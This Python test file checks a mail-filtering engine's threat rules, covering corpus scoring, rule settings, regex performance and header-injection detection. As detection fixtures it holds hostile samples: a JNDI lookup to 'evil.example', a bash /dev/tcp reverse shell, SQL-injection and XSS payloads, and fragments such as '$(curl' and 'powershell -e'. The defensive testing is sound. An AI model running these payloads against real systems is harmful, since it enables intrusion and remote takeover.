"""The set of threat rules: what the corpus scores, what is set, what hostile mail costs."""

from __future__ import annotations

import re
from collections import Counter

import pytest
import re2
from hypothesis import given
from hypothesis import strategies as st

from nodeagent.policy.document import PolicySettings, ThreatSetting
from nodeagent.policy.engine.content import Attachment, Content, ContentFault
from nodeagent.policy.engine.mime import read_content
from nodeagent.policy.engine.mime_text import MOST_HEADER_CHARS
from nodeagent.policy.engine.threats import THREAT_RULES, ThreatSet, Where
from nodeagent.policy.model import Header, Message, Severity
from tests.policy.corpus.attacks import ATTACKS, REJECTED
from tests.policy.corpus.building import message_of
from tests.policy.corpus.ordinary import ORDINARY

ALL = ThreatSet.compile()
DEFAULTS = PolicySettings()
NAMES = [rule.name for rule in THREAT_RULES]


def score_of(raw: bytes) -> float:
    """Return the score of a whole mail."""
    return sum(hit.score for hit in ALL.find(read_content(message_of(raw))))


@pytest.mark.parametrize("name", ORDINARY)
def test_an_ordinary_mail_stays_below_the_quarantine(name: str):
    """An ordinary mail stays below the quarantine."""
    assert score_of(ORDINARY[name]) < DEFAULTS.threat_quarantine_score


@pytest.mark.parametrize("name", ATTACKS)
def test_an_attack_reaches_its_score(name: str):
    """An attack reaches its score."""
    raw, least = ATTACKS[name]
    assert score_of(raw) >= least


def test_the_corpus_is_large_enough_to_mean_something():
    """The corpus is large enough to mean something."""
    assert len(ORDINARY) >= 40
    assert len(ATTACKS) >= 40
    assert sum(least >= REJECTED for _raw, least in ATTACKS.values()) >= 10


def test_most_ordinary_mails_fire_no_rule_at_all():
    """Most ordinary mails fire no rule at all."""
    quiet = [name for name, raw in ORDINARY.items() if score_of(raw) == 0]
    assert len(quiet) >= len(ORDINARY) * 3 // 4


def test_the_thresholds_of_the_corpus_are_the_defaults():
    """The thresholds of the corpus are the defaults."""
    assert DEFAULTS.threat_quarantine_score == min(least for _raw, least in ATTACKS.values())
    assert DEFAULTS.threat_reject_score == REJECTED


@pytest.mark.parametrize("rule", THREAT_RULES, ids=NAMES)
def test_a_rule_is_described_for_the_administrator(rule):
    """A rule is described for the administrator."""
    assert re.fullmatch(r"[a-z0-9]+(?:-[a-z0-9]+)*", rule.name)
    ThreatSetting(rule=rule.name)
    assert re.fullmatch(r"[A-Z].*[a-zA-Z0-9]\.", rule.description)
    assert rule.description.count(". ") == 0
    assert 0 < rule.score <= 10
    assert rule.where
    assert bool(rule.patterns) is (rule.sign is None)


@pytest.mark.parametrize("rule", THREAT_RULES, ids=NAMES)
def test_severity_follows_the_score(rule):
    """So that the log's colours say what the verdict does."""
    least = {Severity.LOW: 0, Severity.MEDIUM: 2, Severity.HIGH: 5, Severity.CRITICAL: 10}
    assert rule.score >= least[rule.severity]
    assert rule.severity is Severity.CRITICAL or rule.score < 10


def test_names_of_rules_are_unique():
    """Names of rules are unique."""
    assert [name for name, count in Counter(NAMES).items() if count > 1] == []


@pytest.mark.parametrize("pattern", [one for rule in THREAT_RULES for one in rule.patterns])
def test_patterns_are_small_and_match_nothing_empty(pattern: str):
    """Patterns are small and match nothing empty."""
    compiled = re2.compile(pattern)
    assert compiled.search("") is None
    assert compiled.programsize < 20_000


def test_every_family_of_the_issue_has_rules():
    """Every family of the issue has rules."""
    places = {where for rule in THREAT_RULES for where in rule.where}
    assert places == set(Where)
    for word in ("sql", "shell", "php", "script", "template", "frame", "link", "header"):
        assert any(word in name for name in NAMES), word


JNDI = Content(subject="${jndi:ldap://evil.example/x}")


def test_a_rule_that_is_switched_off_does_not_fire():
    """A rule that is switched off does not fire."""
    assert [hit.rule for hit in ALL.find(JNDI)] == ["jndi-lookup-header"]
    off = ThreatSet.compile([ThreatSetting(rule="jndi-lookup-header", is_enabled=False)])
    assert off.find(JNDI) == ()


def test_the_administrators_score_counts():
    """The administrators score counts."""
    (hit,) = ThreatSet.compile([ThreatSetting(rule="jndi-lookup-header", score=1.5)]).find(JNDI)
    assert (hit.score, hit.severity) == (1.5, Severity.CRITICAL)


def test_a_score_of_none_is_the_rules_own():
    """A score of none is the rules own."""
    (hit,) = ThreatSet.compile([ThreatSetting(rule="jndi-lookup-header")]).find(JNDI)
    assert hit.score == 10


def test_settings_of_rules_that_are_gone_are_passed_over():
    """Settings of rules that are gone are passed over."""
    assert ThreatSet.compile([ThreatSetting(rule="no-longer-there", score=9)]).find(JNDI)


def test_all_rules_may_be_switched_off():
    """All rules may be switched off."""
    off = ThreatSet.compile([ThreatSetting(rule=name, is_enabled=False) for name in NAMES])
    assert off.find(JNDI) == ()


def test_a_rule_fires_once_however_often_it_matches():
    """A rule fires once however often it matches."""
    text = "bash -i >& /dev/tcp/198.51.100.7/4444 0>&1\n" * 5
    assert [hit.rule for hit in ALL.find(Content(texts=(text, text)))] == ["reverse-shell"]


def test_a_hit_shows_what_it_matched():
    """A hit shows what it matched."""
    (hit,) = ALL.find(Content(texts=("Grüße, bash -i >& /dev/tcp/198.51.100.7/4444 0>&1",)))
    assert hit.matched == ">& /dev/tcp/198.51.100.7/4444 0>&1"


def test_what_a_hit_shows_is_bounded():
    """What a hit shows is bounded."""
    markup = f"<script>{'x' * 500}eval(atob('{'x' * 500}'))</script>"
    assert {len(hit.matched) <= 100 for hit in ALL.find(Content(markups=(markup,)))} == {True}


def test_hits_stand_in_the_order_of_the_table():
    """Hits stand in the order of the table."""
    content = Content(
        subject="${jndi:ldap://x}",
        texts=("1' AND SLEEP(5)#",),
        markups=("<img src=x onerror=alert(1)>",),
        faults=frozenset({ContentFault.TOO_DEEP}),
    )
    found = [hit.rule for hit in ALL.find(content)]
    assert found == sorted(found, key=NAMES.index)
    assert len(found) >= 4


class SilentSet(re2.Set):
    """A set that has no memory left for any text."""

    def Match(self, text: str) -> None:  # noqa: N802 - RE2's own name
        """Find nothing, as RE2 then does."""


def test_a_set_that_gives_up_for_want_of_memory_misses_nothing(monkeypatch: pytest.MonkeyPatch):
    """RE2 does not tell; the patterns are then run one by one."""
    monkeypatch.setattr("nodeagent.policy.engine.threats.re2.Set", SilentSet)
    for raw, _least in list(ATTACKS.values())[:10]:
        content = read_content(message_of(raw))
        assert ThreatSet.compile().find(content) == ALL.find(content)
    assert ThreatSet.compile().find(Content(texts=("an ordinary text",))) == ()


def test_an_empty_mail_fires_nothing():
    """An empty mail fires nothing."""
    assert ALL.find(Content()) == ()
    assert ALL.find(read_content(Message())) == ()


HIDING = "=?utf-8?Q?a=0D=0ABcc:_b?="
QUIET = "=?utf-8?Q?a_b?= "


def hides_a_header(*values: str) -> bool:
    """Tell whether the rule fires for a mail with these headers."""
    content = Content(headers=tuple(Header("X-A", value) for value in values))
    return any(hit.rule == "hidden-header-injection" for hit in ThreatSet.compile().find(content))


@pytest.mark.parametrize(
    ("values", "is_found"),
    [
        ((HIDING,), True),
        (("x" * 10 * MOST_HEADER_CHARS, HIDING), True),
        ((QUIET * 100,) * 20 + (HIDING,), True),
        (("a" * (MOST_HEADER_CHARS - len(QUIET + HIDING)) + QUIET, HIDING), True),
        (("a" * (MOST_HEADER_CHARS - len(QUIET + HIDING) + 1) + QUIET, HIDING), False),
        (("a" * (MOST_HEADER_CHARS - len(QUIET)) + QUIET, HIDING), False),
        (("a" * MOST_HEADER_CHARS + QUIET, HIDING), False),
        ((QUIET * 1000,) * 60 + (HIDING,), False),
    ],
)
def test_encoded_words_of_all_headers_have_one_limit(
    values: tuple[str, ...], is_found: bool
) -> None:
    """Headers without any cost nothing of it, so that ordinary mails are decoded whole."""
    assert hides_a_header(*values) is is_found


def test_headers_that_are_no_unicode_are_searched():
    """Headers that are no unicode are searched."""
    headers = (Header("X-Test", " \udcff\ud800 ${jndi:ldap://x}\r\n\tfolded"),)
    assert [hit.rule for hit in ALL.find(Content(headers=headers))] == ["jndi-lookup-header"]


HOSTILE = (
    *(
        "<script>",
        "<script",
        "<a href='",
        "<a href=x.y>",
        "<a ",
        "<form ",
        "<form action=//x>",
        "<input ",
    ),
    *(
        "<input type=",
        "<iframe src=",
        "<svg onload=",
        "http://",
        "http://a.b/ ",
        "https://1.1.1.1",
        "@",
    ),
    *(
        "${",
        "${${",
        "{{",
        "' OR '",
        "' or 1=",
        "' UNION ",
        "() {",
        "$(curl",
        "`id",
        "powershell -e ",
        "%0a",
    ),
    *(
        "win+r ",
        "=?utf-8?Q?=0A",
        "password: ",
        "&#106;",
        "j\n",
        "eval(",
        "atob(",
        "<!--",
        "xn--a.",
        "\\x41",
    ),
)


@pytest.mark.parametrize("piece", HOSTILE)
def test_long_hostile_mails_are_searched(piece: str):
    """Taken in quadratic time, each of these would run into the limit of every test."""
    text = piece * (400_000 // len(piece))
    content = Content(
        subject=text[:10_000],
        texts=(text,),
        markups=(text, text + ">"),
        attachments=(Attachment(text[:2000], is_encrypted=True),),
        headers=(Header("From", text[:60_000]), Header("To", text[:60_000])),
    )
    for hit in ALL.find(content):
        assert len(hit.matched) <= 100


fragments = st.lists(
    st.sampled_from((*HOSTILE, ">", "</a>", "</script>", " ", "x", "'", "1=1", "--"))
)


@given(fragments.map("".join), fragments.map("".join), fragments.map("".join))
def test_any_mail_of_fragments_is_searched(text: str, markup: str, value: str):
    """Any mail of fragments is searched."""
    content = Content(
        value, (text,), (markup,), (Attachment(value),), headers=(Header("From", value),)
    )
    found = [hit.rule for hit in ALL.find(content)]
    assert len(found) == len(set(found))


@given(st.text(), st.text(), st.text())
def test_any_text_is_searched(text: str, markup: str, value: str):
    """Any text is searched."""
    whole = [one.encode("utf-8", "replace").decode() for one in (text, markup)]
    headers = (Header("From", value), Header(value, value))
    ALL.find(Content(whole[0], (whole[0],), (whole[1],), headers=headers))
